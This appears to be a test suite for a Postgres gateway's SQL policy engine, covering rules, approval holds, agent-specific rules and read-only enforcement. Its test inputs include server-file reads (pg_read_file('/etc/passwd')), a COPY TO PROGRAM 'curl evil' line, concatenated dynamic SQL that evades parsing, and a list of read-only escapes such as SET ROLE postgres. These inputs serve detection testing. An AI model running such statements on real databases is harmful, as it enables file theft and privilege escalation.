/**
 * evaluate(): ordered rules, first match decides, the policy default otherwise; the strictest
 * statement of a text wins; every kind a statement executes is decided; table, where,
 * function, identity, application and agent matchers; hold parameters and how several holds
 * combine; onUnparseable; read-only sessions and their escapes; the parser-safety block.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { parseConfig } from "../../src/config/load.js";
import type { Identity } from "../../src/identity/principal.js";
import { classify, initPolicyParser } from "../../src/policy/classify.js";
import {
  compileConnectionPolicy,
  evaluate,
  sessionReadOnly,
  type CompiledPolicy,
  type Decision,
  type EvaluationContext,
} from "../../src/policy/policy.js";

beforeAll(async () => {
  await initPolicyParser();
});

const HEADER = `
listen: 127.0.0.1:8443
identity:
  issuer: https://login.example.com/tenant/v2.0
  audience: api://gw
store: { memory: true }
`;

/** The compiled policy of connection `db` whose policy `p` is the YAML given (indented 4). */
function policy(yaml: string, conn: { readOnly?: boolean } = {}): CompiledPolicy {
  const text = `${HEADER}
connections:
  db:
    type: postgres
    target: { host: db.internal, database: app, user: gw }
    allow: ["group:everyone"]
    policy: p
    readOnly: ${conn.readOnly === true}
policies:
  p:
${yaml
  .split("\n")
  .map((l) => `    ${l}`)
  .join("\n")}
`;
  return compileConnectionPolicy(parseConfig(text), "db");
}

function identity(over: Partial<Identity> = {}): Identity {
  return {
    oid: "oid-alice",
    tid: "tenant",
    name: "Alice",
    upn: "alice@example.com",
    type: "user",
    groups: ["analysts"],
    roles: [],
    expiresAt: 0,
    ...over,
  };
}

const ALICE: EvaluationContext = { identity: identity(), applicationName: "psql" };

function decide(p: CompiledPolicy, sql: string, ctx: EvaluationContext = ALICE): Decision {
  return evaluate(p, classify(sql), ctx);
}

const PROD = `
approvers: ["group:dba"]
rules:
  - name: no-file-access
    match: { functions: [pg_read_file, "lo_*", "dblink*"] }
    action: block
    reason: server file access is not allowed
  - name: unbounded-writes
    match: { kind: [update, delete], where: absent }
    action: hold
    minApprovals: 2
    timeout: 30m
  - name: ddl
    match: { kind: [drop, truncate, alter] }
    action: block
  - name: secrets
    match: { tables: ["*.secrets", "billing.cards"] }
    action: hold
    approvers: ["group:security", "group:dba"]
  - name: reads
    match: { kind: [select] }
    action: allow
`;

describe("rules, defaults and the strictest statement", () => {
  const p = policy(PROD);

  it("first matching rule decides; its index, name and match text are reported", () => {
    const d = decide(p, "SELECT pg_read_file('/etc/passwd')");
    expect(d.action).toBe("block");
    expect(d.source).toBe("rule");
    expect(d.reason).toBe("server file access is not allowed");
    expect(d.rule).toEqual({
      index: 0,
      name: "no-file-access",
      matchText: "functions: [pg_read_file, lo_*, dblink*]",
    });
    expect(d.kinds).toEqual(["select"]);
  });

  it("no rule matches: the policy default (allow unless configured)", () => {
    const d = decide(p, "INSERT INTO orders VALUES (1)");
    expect(d).toMatchObject({ action: "allow", source: "default", rule: null });
    const strict = policy(`default: block\nrules: []`);
    expect(decide(strict, "SELECT 1")).toMatchObject({ action: "block", source: "default" });
  });

  it("a block reason defaults to naming the rule", () => {
    const d = decide(p, "DROP TABLE orders");
    expect(d.reason).toBe("blocked by rules[2] (ddl)");
  });

  it("multi-statement: each statement is decided and the strictest wins", () => {
    const d = decide(p, "SELECT 1; DELETE FROM orders; SELECT 2");
    expect(d.action).toBe("hold");
    expect(d.statements.map((s) => s.action)).toEqual(["allow", "hold", "allow"]);
    expect(d.rule?.name).toBe("unbounded-writes");
    const b = decide(p, "DELETE FROM orders; TRUNCATE orders");
    expect(b.action).toBe("block");
    expect(b.rule?.name).toBe("ddl");
    expect(b.kinds).toEqual(["delete", "truncate"]);
  });

  it("an allow rule for select cannot let a data-modifying CTE through", () => {
    const d = decide(p, "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d");
    expect(d.action).toBe("hold");
    expect(d.rule?.name).toBe("unbounded-writes");
  });

  it("EXPLAIN ANALYZE DELETE is a delete; plain EXPLAIN DELETE is not", () => {
    expect(decide(p, "EXPLAIN ANALYZE DELETE FROM orders").action).toBe("hold");
    expect(decide(p, "EXPLAIN DELETE FROM orders").action).toBe("allow");
  });

  it("PREPARE of a delete is decided like the delete", () => {
    expect(decide(p, "PREPARE x AS DELETE FROM orders").action).toBe("hold");
  });

  it("comments and dollar quotes do not change the decision", () => {
    expect(decide(p, "/* just a select */ DELETE FROM orders -- ;").action).toBe("hold");
    expect(decide(p, "SELECT $$; DELETE FROM orders; $$").action).toBe("allow");
  });

  it("functions in subqueries and CTEs are matched", () => {
    expect(
      decide(p, "SELECT * FROM orders WHERE id IN (SELECT lo_import('/etc/passwd'))").action,
    ).toBe("block");
    expect(decide(p, "WITH x AS (SELECT dblink_exec('a', 'b')) SELECT * FROM x").action).toBe(
      "block",
    );
  });

  it("DO, CALL, SELECT INTO, CREATE TABLE AS, COPY PROGRAM reach the rules", () => {
    const ddl = policy(`
rules:
  - match: { kind: [do, call] }
    action: hold
    approvers: ["group:dba"]
  - match: { kind: [create] }
    action: block
  - match: { kind: [copy-to, copy-from] }
    action: block
    reason: no COPY
`);
    expect(decide(ddl, "DO $$BEGIN NULL; END$$").action).toBe("hold");
    expect(decide(ddl, "CALL close_month()").action).toBe("hold");
    expect(decide(ddl, "SELECT * INTO stash FROM orders").action).toBe("block");
    expect(decide(ddl, "CREATE TABLE stash AS SELECT * FROM orders").action).toBe("block");
    expect(decide(ddl, "COPY orders TO PROGRAM 'curl evil'").reason).toBe("no COPY");
    expect(decide(ddl, "SELECT 1").action).toBe("allow");
  });
});

describe("table matching", () => {
  const p = policy(`
rules:
  - match: { tables: ["public.customers"] }
    action: block
    reason: customers
  - match: { tables: ["*.secrets"] }
    action: block
    reason: secrets
  - match: { tables: ["billing.*"] }
    action: block
    reason: billing
`);

  it("schema-qualified names match on schema and table", () => {
    expect(decide(p, "SELECT * FROM public.customers").reason).toBe("customers");
    expect(decide(p, "SELECT * FROM billing.invoices").reason).toBe("billing");
    expect(decide(p, "SELECT * FROM vault.secrets").reason).toBe("secrets");
    expect(decide(p, "SELECT * FROM other.customers").action).toBe("allow");
    expect(decide(p, "SELECT * FROM billing2.x").action).toBe("allow");
  });

  it("unqualified names match any pattern whose table part matches (search_path decides)", () => {
    expect(decide(p, "SELECT * FROM customers").reason).toBe("customers");
    expect(decide(p, "SELECT * FROM secrets").reason).toBe("secrets");
    // billing.* has table part *, so it matches every unqualified name: search_path could
    // resolve any of them to billing. Qualified names outside billing do not match.
    expect(decide(p, "SELECT * FROM invoices").reason).toBe("billing");
    expect(decide(p, "SELECT * FROM public.invoices").action).toBe("allow");
  });

  it('case and quoting: Customers, CUSTOMERS and "Customers" all match public.customers', () => {
    expect(decide(p, "SELECT * FROM Public.Customers").reason).toBe("customers");
    expect(decide(p, "SELECT * FROM CUSTOMERS").reason).toBe("customers");
    expect(decide(p, 'SELECT * FROM "Customers"').reason).toBe("customers");
    expect(decide(p, 'SELECT * FROM "public"."customers"').reason).toBe("customers");
  });

  it("tables anywhere count: joins, subqueries, CTEs, DML targets", () => {
    expect(decide(p, "SELECT 1 FROM orders o JOIN vault.secrets s ON true").reason).toBe("secrets");
    expect(decide(p, "SELECT * FROM (SELECT * FROM secrets) x").reason).toBe("secrets");
    expect(decide(p, "WITH c AS (SELECT * FROM customers) SELECT * FROM c").reason).toBe(
      "customers",
    );
    expect(decide(p, "UPDATE billing.cards SET pan = NULL WHERE id = 1").reason).toBe("billing");
    expect(decide(p, "INSERT INTO public.audit SELECT * FROM billing.cards").reason).toBe(
      "billing",
    );
    // A CTE named like a table is not the table.
    expect(decide(p, "WITH secrets AS (SELECT 1) SELECT * FROM secrets").action).toBe("allow");
  });

  it("onlyTables: every table must match (an allow-list)", () => {
    const q = policy(`
default: block
rules:
  - match: { kind: [select], onlyTables: ["public.*", "reporting.*"] }
    action: allow
`);
    expect(decide(q, "SELECT * FROM public.orders JOIN reporting.daily ON true").action).toBe(
      "allow",
    );
    expect(decide(q, "SELECT * FROM public.orders JOIN billing.cards ON true").action).toBe(
      "block",
    );
    expect(decide(q, "SELECT 1").action).toBe("block"); // no tables: onlyTables does not match
  });
});

describe("where, identity, application and agent matchers", () => {
  it("where: absent is per kind for update/delete", () => {
    const p = policy(`
rules:
  - match: { kind: [delete], where: absent }
    action: block
`);
    expect(decide(p, "DELETE FROM t").action).toBe("block");
    expect(decide(p, "DELETE FROM t WHERE true").action).toBe("block");
    expect(decide(p, "DELETE FROM t WHERE id = 1").action).toBe("allow");
    // The UPDATE lacks a WHERE, the DELETE does not.
    expect(
      decide(p, "WITH u AS (UPDATE t SET a = 1 RETURNING id) DELETE FROM t WHERE id = 1").action,
    ).toBe("allow");
  });

  const p = policy(`
rules:
  - match: { identity: { groups: [dba] } }
    action: allow
  - match: { identity: { roles: ["role:gw.readonly"] }, kind: [insert, update, delete] }
    action: block
    reason: read-only role
  - match: { identity: { type: app }, kind: [delete] }
    action: block
    reason: apps do not delete
  - match: { identity: { users: [oid-bob] }, kind: [delete] }
    action: block
    reason: not bob
  - match: { application: ["DBeaver*"], kind: [update, delete] }
    action: hold
    approvers: ["group:dba"]
  - match: { agent: ["*"], kind: [update, delete, insert] }
    action: hold
    approvers: ["group:dba"]
    reason: agents need approval to write
  - match: { agent: [claude-*], kind: [select] }
    action: block
    reason: no claude reads
`);

  it("identity: groups, roles (principal form accepted), users, apps, type", () => {
    const dba: EvaluationContext = { identity: identity({ groups: ["dba"] }) };
    expect(decide(p, "DELETE FROM t", dba)).toMatchObject({ action: "allow", source: "rule" });
    const ro: EvaluationContext = { identity: identity({ roles: ["gw.readonly"] }) };
    expect(decide(p, "INSERT INTO t VALUES (1)", ro).reason).toBe("read-only role");
    const app: EvaluationContext = { identity: identity({ type: "app", groups: [] }) };
    expect(decide(p, "DELETE FROM t WHERE id = 1", app).reason).toBe("apps do not delete");
    const bob: EvaluationContext = { identity: identity({ oid: "oid-bob" }) };
    expect(decide(p, "DELETE FROM t WHERE id = 1", bob).reason).toBe("not bob");
    expect(decide(p, "DELETE FROM t WHERE id = 1", ALICE).action).toBe("allow");
  });

  it("application: globs on application_name", () => {
    const gui = { identity: identity(), applicationName: "DBeaver 23.1" };
    expect(decide(p, "UPDATE t SET a = 1 WHERE id = 1", gui).action).toBe("hold");
    expect(decide(p, "UPDATE t SET a = 1 WHERE id = 1", ALICE).action).toBe("allow");
    expect(decide(p, "UPDATE t SET a = 1 WHERE id = 1", { identity: identity() }).action).toBe(
      "allow",
    );
  });

  it("agent: matches only sessions with an agent label", () => {
    const agent = { identity: identity(), agentLabel: "cursor" };
    expect(decide(p, "INSERT INTO t VALUES (1)", agent).reason).toBe(
      "agents need approval to write",
    );
    expect(decide(p, "INSERT INTO t VALUES (1)", ALICE).action).toBe("allow");
    const claude = { identity: identity(), agentLabel: "claude-code" };
    expect(decide(p, "SELECT 1", claude).reason).toBe("no claude reads");
    expect(decide(p, "SELECT 1", agent).action).toBe("allow");
  });
});

describe("holds", () => {
  it("carry approvers, minApprovals and timeout, with policy defaults (1, 10m)", () => {
    const p = policy(PROD);
    const d = decide(p, "DELETE FROM orders");
    expect(d).toMatchObject({
      action: "hold",
      approvers: ["group:dba"],
      minApprovals: 2,
      timeoutMs: 30 * 60_000,
    });
    const s = decide(p, "SELECT * FROM secrets");
    expect(s).toMatchObject({
      action: "hold",
      approvers: ["group:security", "group:dba"],
      minApprovals: 1,
      timeoutMs: 10 * 60_000,
    });
    const allow = decide(p, "SELECT 1");
    expect(allow).toMatchObject({ approvers: [], minApprovals: 0, timeoutMs: 0 });
  });

  it("policy-level minApprovals and timeout are the defaults for its holds", () => {
    const p = policy(`
approvers: ["group:dba"]
minApprovals: 3
timeout: 1h30m
default: hold
`);
    expect(decide(p, "SELECT 1")).toMatchObject({
      action: "hold",
      source: "default",
      approvers: ["group:dba"],
      minApprovals: 3,
      timeoutMs: 90 * 60_000,
    });
  });

  it("several holds: approvers in common, the most approvals, the shortest timeout", () => {
    const p = policy(PROD);
    const d = decide(p, "DELETE FROM orders; SELECT * FROM secrets");
    expect(d).toMatchObject({
      action: "hold",
      approvers: ["group:dba"],
      minApprovals: 2,
      timeoutMs: 10 * 60_000,
    });
  });

  it("several holds with no approver in common: blocked", () => {
    const p = policy(`
rules:
  - match: { kind: [delete] }
    action: hold
    approvers: ["group:dba"]
  - match: { kind: [truncate] }
    action: hold
    approvers: ["group:security"]
`);
    const d = decide(p, "DELETE FROM a WHERE id = 1; TRUNCATE b");
    expect(d).toMatchObject({ action: "block", source: "approvers" });
    expect(d.statements.map((s) => s.action)).toEqual(["hold", "hold"]);
  });
});

describe("unparseable SQL", () => {
  it("onUnparseable: block by default, or as configured", () => {
    const d = decide(policy("rules: []"), "SELEC * FROM t");
    expect(d).toMatchObject({ action: "block", source: "unparseable", kinds: ["unknown"] });
    expect(d.reason).toMatch(/does not parse.*syntax error/);
    expect(decide(policy("onUnparseable: allow"), "SELEC 1").action).toBe("allow");
    expect(
      decide(policy(`onUnparseable: hold\napprovers: ["group:dba"]`), "SELEC 1"),
    ).toMatchObject({ action: "hold", approvers: ["group:dba"], minApprovals: 1 });
  });

  it("an empty text is allowed", () => {
    expect(decide(policy("default: block"), "-- nothing")).toMatchObject({
      action: "allow",
      source: "empty",
    });
  });
});

describe("dynamic SQL", () => {
  const restrictive = `
rules:
  - match: { kind: [drop] }
    action: block
  - match: { functions: [pg_read_file] }
    action: block
`;
  it("SQL built at run time gets onUnparseable's action where the policy restricts anything", () => {
    const p = policy(restrictive);
    for (const sql of [
      "DO $$ BEGIN EXECUTE 'dr' || 'op table zz'; END $$",
      "select query_to_xml('select pg_read_file(''/etc/hostname'')', true, false, '')",
    ]) {
      const d = decide(p, sql);
      expect(d, sql).toMatchObject({ action: "block", source: "unparseable" });
      expect(d.reason).toMatch(/built at run time/);
    }
    // Static SQL under the same policy is judged by its rules as before.
    expect(decide(p, "select 1").action).toBe("allow");
  });

  it("a policy that restricts nothing lets dynamic SQL through; onUnparseable: allow too", () => {
    expect(decide(policy("rules: []"), "DO $$ BEGIN EXECUTE 'select 1'; END $$").action).toBe(
      "allow",
    );
    expect(
      decide(
        policy(`onUnparseable: allow\n${restrictive}`),
        "DO $$ BEGIN EXECUTE 'select 1'; END $$",
      ).action,
    ).toBe("allow");
  });
});

describe("read-only sessions", () => {
  const ESCAPES = [
    "SET ROLE postgres",
    "RESET ROLE",
    "SET SESSION AUTHORIZATION postgres",
    "SET default_transaction_read_only = off",
    "SET LOCAL transaction_read_only = off",
    "SET TRANSACTION READ WRITE",
    "BEGIN READ WRITE",
    "START TRANSACTION READ WRITE",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    "RESET ALL",
    "SELECT set_config('transaction_read_only', 'off', false)",
    "SELECT 1; SELECT set_config('default_transaction_read_only', 'off', false)",
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'",
    "DO $$BEGIN EXECUTE 'SET default_transaction_read_only = off'; END$$",
  ];

  it.each(ESCAPES)("a read-only policy always blocks: %s", (sql) => {
    // Even a rule that allows everything does not let an escape through.
    const p = policy(`readOnly: true\nrules:\n  - action: allow`);
    const d = decide(p, sql);
    expect(d.action).toBe("block");
    expect(d.source).toBe("read-only");
    expect(d.reason).toMatch(/^read-only mode: /);
    expect(d.readOnly).toBe(true);
  });

  it("a read-only connection does the same, with any policy", () => {
    const p = policy(`rules:\n  - action: allow`, { readOnly: true });
    expect(decide(p, "SET ROLE postgres")).toMatchObject({ action: "block", source: "read-only" });
    expect(decide(p, "SELECT 1")).toMatchObject({ action: "allow", readOnly: true });
  });

  it("outside read-only mode an escape is just a statement", () => {
    const p = policy(`rules: []`);
    expect(decide(p, "SET ROLE postgres")).toMatchObject({ action: "allow", readOnly: false });
  });

  it("a readOnly rule makes the sessions of whoever it matches read-only", () => {
    const p = policy(`
rules:
  - match: { identity: { groups: [analysts] } }
    action: allow
    readOnly: true
`);
    const analyst = ALICE;
    const dba: EvaluationContext = { identity: identity({ groups: ["dba"] }) };
    expect(sessionReadOnly(p, analyst)).toBe(true);
    expect(sessionReadOnly(p, dba)).toBe(false);
    expect(decide(p, "SET ROLE postgres", analyst)).toMatchObject({
      action: "block",
      source: "read-only",
    });
    expect(decide(p, "SET ROLE postgres", dba).action).toBe("allow");
  });
});

describe("parser safety", () => {
  it("changing standard_conforming_strings or client_encoding is always blocked", () => {
    const p = policy(`rules:\n  - action: allow`);
    for (const sql of ["SET standard_conforming_strings = off", "SET client_encoding = 'SJIS'"]) {
      expect(decide(p, sql)).toMatchObject({ action: "block", source: "parser-safety" });
    }
    expect(decide(p, "SET client_encoding = 'UTF8'").action).toBe("allow");
  });
});

describe("connections", () => {
  it("a connection without a policy allows everything (and may still be read-only)", () => {
    const cfg = parseConfig(`${HEADER}
connections:
  plain:
    type: postgres
    target: { host: h, database: d, user: u }
    allow: ["group:x"]
  ro:
    type: postgres
    target: { host: h, database: d, user: u }
    allow: ["group:x"]
    readOnly: true
`);
    const plain = compileConnectionPolicy(cfg, "plain");
    expect(plain.name).toBe("(none)");
    expect(decide(plain, "DROP TABLE t").action).toBe("allow");
    expect(decide(plain, "SELEC").action).toBe("allow");
    const ro = compileConnectionPolicy(cfg, "ro");
    expect(decide(ro, "SET ROLE x")).toMatchObject({ action: "block", source: "read-only" });
    expect(() => compileConnectionPolicy(cfg, "nope")).toThrow(/no connection named "nope"/);
  });
});
